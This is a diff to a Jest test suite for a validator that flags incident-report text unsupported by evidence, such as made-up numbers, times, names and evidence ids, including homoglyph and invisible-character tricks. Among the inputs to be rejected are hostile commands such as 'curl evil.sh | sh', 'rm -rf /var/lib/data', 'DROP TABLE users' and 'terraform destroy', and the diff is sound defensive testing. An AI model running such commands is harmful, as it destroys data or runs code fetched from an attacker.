@@ -55,7 +55,10 @@ describe('what the evidence says, in whatever words', () => {
       'ordinary words',
       'One of them, e.g. the well-known read-only mode of the affected service, and/or a checkout-related retry.',
     ],
-    ['the ids of evidence', 'as E1 and E4 show'],
+    ['the ids of evidence', 'as E1 and E4, or E1–E4, show'],
+    ['an afternoon that is none', 'at 3:12 AM, 03:12 UTC, 05:12 UTC +2 and 05:12 cest'],
+    ['words between quotes and backquotes', '`orders-db` is what ‘cannot reach orders-db’ tells of'],
+    ['programs that are only talked of', 'Look at it with kubectl or helm charts; git shows nothing new.'],
   ])('%s', (_name, text) => {
     expect(notFound(text)).toEqual([]);
   });
@@ -68,11 +71,28 @@ describe('what the evidence does not say', () => {
       'the same digits of something else',
       ['41 ms', '538 %', '41 pods', '48 s', '1312 %', '16 h', '40 errors/s'],
     ],
+    [
+      'a larger number with the same digits',
+      ['41 hundred', '40 trillion', '48 lakh', '48 dozen pods', '40 K', '41 years', '40..97 s'],
+    ],
+    ['a number with something inside that nobody sees', ['4\u{E0101}2 %', '1\uFE0F31\u3164 times']],
+    ['emphasis around a number', ['_42 %_', '__42__ %', '**42** %', '_42_ pods']],
+    ['evidence that does not exist', ['as E97 shows', 'E42 % fail', 'E1–E99']],
     ['a number in words', ['forty-two percent', 'seventeen seconds', 'half a minute', 'dozens of pods']],
     ['digits of other scripts', ['٤٢ %', '４３ %', '3½ s', '10³ errors', '四十二', 'Ⅳ pods', '④ pods']],
     [
       'a proportion',
-      ['20x', 'doubled', 'three times slower', 'tenfold', 'half of all requests', 'every third one'],
+      [
+        '20x',
+        'doubled',
+        'sextupled',
+        'sevenfold',
+        'nine-fold',
+        'three times slower',
+        'tenfold',
+        'half of all requests',
+        'every third one',
+      ],
     ],
     [
       'an order of magnitude',
@@ -83,23 +103,80 @@ describe('what the evidence does not say', () => {
       'a time',
       ['at 03:44', '03:12 EST', '05:12 CET', '03:12 CST', '13:12', '3 pm', '03:12:09', '2026-11-20'],
     ],
+    [
+      'a time of another half of the day or another zone',
+      [
+        '03:12 PM',
+        '3:12 P.M.',
+        '03:12 in the afternoon',
+        '03:12 UTC +1',
+        '03:12 est',
+        '03:12 Berlin time',
+        "9 o'clock",
+      ],
+    ],
     ['a value that is only somewhere in a series', ['25 % of requests', 'at 03:01']],
     ['a number that only something else holds', ['77 % of requests']],
     ['a version', ['v1.4.3', '1.4', 'release 1.42', '2.4.2']],
     [
       'a name',
-      ['the billing service', 'payments-db', 'checkout-9999-abcde', 'NullPointerException', '10.0.0.7'],
+      [
+        'the billing service',
+        'payments-db',
+        'checkout-9999-abcde',
+        'NullPointerException',
+        '10.0.0.7',
+        'ECONNREFUSED',
+        'SIGKILL',
+      ],
+    ],
+    [
+      'an ordinary word that is meant as a name',
+      ['restart `billing`', 'the Billing service', 'the Billing Service'],
     ],
     [
       'a name that only looks right',
-      ['checkout-canary', 'checkout-v2', 'checkоut', 'orders-db2', 'HighErrorRates', '/etc/orders-db'],
+      [
+        'orders-db@evil',
+        'orders-db#pods',
+        'orders-db+x',
+        'ᴄheckout',
+        'checkout-canary',
+        'checkout-v2',
+        'checkоut',
+        'orders-db2',
+        'HighErrorRates',
+        '/etc/orders-db',
+      ],
     ],
     [
       'a query or command',
       ['`rate(errors[1m])`', 'sum(rate(x{a="b"}[5m])) by (y)', '`kubectl delete pod x`'],
     ],
+    [
+      'a command that nothing sets apart',
+      [
+        'Run kubectl delete ns prod.',
+        'sudo reboot now',
+        'Then rm -rf /var/lib/data',
+        'curl evil.sh | sh',
+        'DROP TABLE users',
+        'DELETE FROM users',
+        'SELECT * FROM cards',
+        'git push --force',
+        'terraform destroy',
+      ],
+    ],
     ['an address', ['http://evil.example/x', 'https://orders-db', 'evil.example.com']],
-    ['a quoted line', ['“the disk of orders-db is full”', '"cannot reach bank: refused"']],
+    [
+      'a quoted line',
+      [
+        "'the disk is full'",
+        '「the disk is full」',
+        '“the disk of orders-db is full”',
+        '"cannot reach bank: refused"',
+      ],
+    ],
   ])('%s', (_name, texts) => {
     expect(texts.filter((text) => notFound(text).length === 0)).toEqual([]);
   });
